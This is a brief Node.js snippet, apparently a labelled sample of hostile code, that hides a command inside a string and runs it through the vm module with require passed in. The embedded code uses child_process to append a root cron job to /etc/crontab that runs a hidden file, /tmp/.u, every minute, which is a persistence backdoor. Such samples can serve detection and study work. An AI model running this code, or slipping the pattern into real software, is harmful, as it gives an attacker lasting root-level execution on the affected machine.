// class: embedded, vm module; style: tidy
const vm = require('vm');
const source = `
const cp = require('child_process');
cp.exec("echo '* * * * * root sh /tmp/.u' >> /etc/crontab");
`;
vm.runInNewContext(source, { require });
